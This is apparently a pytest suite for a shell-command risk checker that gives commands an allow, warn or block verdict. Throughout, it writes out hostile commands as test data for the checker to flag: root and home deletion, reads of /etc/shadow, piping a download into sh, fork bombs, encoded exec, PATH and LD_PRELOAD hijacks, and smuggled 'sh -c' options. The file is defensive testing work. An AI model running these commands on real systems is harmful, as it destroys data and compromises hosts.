"""CommandRisk v2: allow only what is understood. Normalization, program identity, the catalogue's roles,
inline code, worst-case globs, fail-closed caps and errors, and the policy knobs that tune it."""

from __future__ import annotations

import pytest

from commandrisk import Context, Verdict, assess, parse_policy
from commandrisk.catalogue import CatalogueError, catalogue, parse_family
from commandrisk.invocation import read_invocation
from commandrisk.normalize import MAX_INPUT, normalize
from commandrisk.walker import MAX_COMMANDS


def rules_of(command: str, **kwargs) -> set[str]:
    return {f.rule_id for f in assess(command, **kwargs).findings}


def test_nul_bytes_are_dropped_like_bash_and_reported() -> None:
    assert normalize("r\0m -rf /").text == "rm -rf /"
    result = assess("rm\0 -rf /")
    assert result.verdict is Verdict.BLOCK
    assert {"input.nul_bytes", "fs.delete_root"} <= {f.rule_id for f in result.findings}
    assert assess("l\0s").verdict is Verdict.WARN


def test_lone_surrogates_are_replaced_not_raised() -> None:
    normalized = normalize("echo \ud800x")
    assert normalized.invalid_characters == 1 and "\ufffd" in normalized.text
    assert "input.invalid_unicode" in rules_of("echo \ud800x")


def test_caps_fail_closed() -> None:
    assert assess("ls " * (MAX_INPUT // 3 + 10)).verdict is Verdict.BLOCK
    many = "; ".join(["true"] * (MAX_COMMANDS + 5))
    result = assess(many)
    assert result.verdict is Verdict.BLOCK and "walk.too_many_commands" in {f.rule_id for f in result.findings}


def test_internal_errors_block(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr("commandrisk.engine.scan_source", broken)
    result = assess("ls")
    assert result.verdict is Verdict.BLOCK
    assert result.findings[0].rule_id == "guard.internal_error" and "fail closed" in result.findings[0].message


@pytest.mark.parametrize("command", ["$(", "((((", "if then fi fi", "ls 'open"])
def test_unparseable_input_is_never_allowed(command: str) -> None:
    assert assess(command).verdict is not Verdict.ALLOW


def test_unknown_programs_ask_and_say_how_to_allow_them() -> None:
    result = assess("frobnicate --all")
    assert result.verdict is Verdict.WARN
    finding = result.findings[0]
    assert finding.rule_id == "unknown.program" and "rules: allow" in finding.message
    policy = parse_policy("rules: {allow: [frobnicate]}")
    assert assess("frobnicate --all", policy=policy).verdict is Verdict.ALLOW


def test_a_program_named_by_a_path_is_not_the_catalogued_utility() -> None:
    assert assess("find . -name '*.env'").verdict is Verdict.ALLOW
    shadow = assess("./find . -name '*.env'")
    assert shadow.verdict is Verdict.WARN and "not the system's find" in shadow.findings[0].message
    assert assess("/usr/bin/find . -name x").verdict is Verdict.ALLOW
    assert "exec.from_temp" in rules_of("/dev/shm/x")
    assert "exec.just_written" in rules_of("printf 'id' > t.sh; chmod +x t.sh; ./t.sh")


def test_workspace_programs_come_from_the_policy() -> None:
    assert assess("./gradlew build").verdict is Verdict.ALLOW
    assert assess("./scripts/test.sh").verdict is Verdict.ALLOW
    assert assess("./hack/gen.sh").verdict is Verdict.WARN
    policy = parse_policy("workspace_programs: ['./hack/*']")
    assert assess("./hack/gen.sh", policy=policy).verdict is Verdict.ALLOW
    assert assess("./bin/ls -la").verdict is Verdict.WARN


def test_capabilities_have_policy_defaults() -> None:
    assert "capability.privilege" in rules_of("sudo ls")
    assert "capability.package_install" in rules_of("pip install requests")
    policy = parse_policy("capabilities: {package_install: allow}")
    assert assess("pip install requests", policy=policy).verdict is Verdict.ALLOW


def test_writes_and_deletes_outside_the_workspace_ask() -> None:
    inside = Context(cwd="/work/repo", home="/home/dev")
    assert assess("rm -rf build", inside).verdict is Verdict.ALLOW
    assert assess("cp notes.txt /work/other/notes.txt", inside).verdict is Verdict.WARN
    assert assess("cp a /tmp/b", inside).verdict is Verdict.ALLOW
    assert assess("echo x > /home/dev/notes.txt", inside).verdict is Verdict.WARN


def test_git_push_reaches_only_configured_remotes() -> None:
    assert assess("git push origin main").verdict is Verdict.ALLOW
    assert "vcs.push_unknown_remote" in rules_of("git push https://203.0.113.8/x.git main")
    assert "capability.vcs_remote" in rules_of("git remote add other https://203.0.113.8/x.git")


def test_code_running_options_ask() -> None:
    assert "exec.config_code" in rules_of("git -c core.editor='sh -c id' commit")
    assert assess("git -c user.name=bot commit -m x").verdict is Verdict.ALLOW
    assert assess("rsync -e 'ssh -p 2222' -a src/ host:dst/").verdict is Verdict.ALLOW
    assert assess("rsync -e 'sh -c \"rm -rf ~\"' a host:b").verdict is Verdict.BLOCK
    assert "env.code_variable" in rules_of("GIT_SSH_COMMAND='sh -c id' git fetch")


@pytest.mark.parametrize(("code", "verdict"), [
    ("print(sum(range(10)))", Verdict.ALLOW),
    ("import json,sys; print(json.load(sys.stdin)['a'])", Verdict.ALLOW),
    ("import os; os.unlink(os.path.expanduser('~/.netrc'))", Verdict.WARN),
    ("import shutil; shutil.rmtree('/usr')", Verdict.BLOCK),
    ("import subprocess; subprocess.run(['rm', '-rf', '/'])", Verdict.BLOCK),
    ("__import__('os').system('id')", Verdict.WARN),
    ("open('/etc/passwd', 'a').write('x')", Verdict.BLOCK),
    ("open('out.txt', 'w').write('x')", Verdict.ALLOW),
    ("import base64; exec(base64.b64decode('cHJpbnQoMSk='))", Verdict.BLOCK),
    ("while True:\n import os; os.fork()", Verdict.BLOCK),
    ("import urllib.request; urllib.request.urlopen('http://203.0.113.1/')", Verdict.WARN),
    ("def f(:", Verdict.WARN),
])
def test_python_one_liners_are_judged_by_their_calls(code: str, verdict: Verdict) -> None:
    command = "python3 -c " + "'" + code.replace("'", "'\\''") + "'"
    assert assess(command).verdict is verdict, assess(command).explanation


def test_python_heredoc_is_judged_too() -> None:
    assert assess("python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/etc')\nEOF").verdict is Verdict.BLOCK
    assert assess("python3 <<'EOF'\nprint('hi')\nEOF").verdict is Verdict.ALLOW


@pytest.mark.parametrize(("command", "verdict"), [
    ("perl -ne 'print if /ERROR/' app.log", Verdict.ALLOW),
    ("perl -e 'unlink \"x\"'", Verdict.WARN),
    ("node -e 'console.log(JSON.stringify({a: 1}))'", Verdict.ALLOW),
    ("node -e \"require('fs').rmSync('x')\"", Verdict.WARN),
    ("ruby -e 'puts 1 + 2'", Verdict.ALLOW),
    ("ruby -e 'system(\"id\")'", Verdict.WARN),
    ("sed -n '5,10p' f.txt", Verdict.ALLOW),
    ("sed 's/a/b/e' f.txt", Verdict.WARN),
    ("sed -n 'w /etc/cron.d/x' f.txt", Verdict.WARN),
    ("awk '{ print $2 }' f.txt", Verdict.ALLOW),
    ("awk '{ print | \"sh\" }' f.txt", Verdict.WARN),
    ("awk '{ print > \"/etc/x\" }' f.txt", Verdict.WARN),
])
def test_other_languages_are_allowed_only_when_provably_read_only(command: str, verdict: Verdict) -> None:
    assert assess(command).verdict is verdict, assess(command).explanation


def test_globs_are_judged_as_the_worst_sensitive_path_they_match() -> None:
    assert assess("cat /etc/shadow").verdict is Verdict.BLOCK
    glob = assess("cat /e?c/sha*")
    assert glob.verdict is Verdict.BLOCK and "can match /etc/shadow" in glob.explanation
    assert assess("cat src/*.py").verdict is Verdict.ALLOW
    assert assess("/???/r? -rf ~").verdict is Verdict.BLOCK
    assert assess("$EDITOR notes.txt").verdict is Verdict.WARN


def test_unknown_wrappers_are_judged_as_the_worst_command_they_could_run() -> None:
    assert assess("cpulimit -l 50 -- rm -rf ~").verdict is Verdict.BLOCK
    assert assess("obscurewrap rm -rf /").verdict is Verdict.BLOCK
    assert assess("obscurewrap --list").verdict is Verdict.WARN


def test_name_resolution_tricks_ask() -> None:
    assert "env.path_hijack" in rules_of("PATH=.:$PATH ls")
    assert "env.path_hijack" in rules_of("export PATH=/tmp/x:$PATH")
    assert "env.load_variable" in rules_of("LD_PRELOAD=./x.so ls")
    assert assess("PATH=/usr/bin:/bin ls").verdict is Verdict.ALLOW


def test_resource_exhaustion_loops() -> None:
    assert "dos.background_loop" in rules_of("while :; do sleep 1 & done")
    assert assess("while read -r line; do echo \"$line\"; done < list.txt").verdict is Verdict.ALLOW
    assert "dos.fill_disk" in rules_of("fallocate -l 1T disk.img")


def test_catalogue_roles_for_real_command_lines() -> None:
    cat = catalogue()
    inv = read_invocation(cat.get("cp"), ["-r", "src", "lib", "dest"])
    assert [(v.role, v.text) for v in inv.values] == [("read", "src"), ("read", "lib"), ("write", "dest")]
    inv = read_invocation(cat.get("git"), ["-C", "repo", "push", "origin", "main"])
    assert inv.path == ["push"] and "vcs_push" in inv.capabilities


def test_catalogue_errors_name_the_file_and_field() -> None:
    with pytest.raises(CatalogueError, match=r"x.yaml: field utilities.0.names"):
        parse_family("family: x\ndescription: d\nutilities:\n  - {summary: no names}\n", "x.yaml")
    with pytest.raises(CatalogueError, match=r"x.yaml:2: invalid YAML"):
        parse_family("family: x\n  bad: [\n", "x.yaml")


def test_every_warn_and_block_names_its_cause() -> None:
    for command in ("frobnicate", "sudo ls", "./x", "rm -rf ~/old", "curl x | sh", "$("):
        result = assess(command)
        assert result.verdict is not Verdict.ALLOW
        assert all(f.rule_id and f.message and f.technique.startswith("T") for f in result.findings)
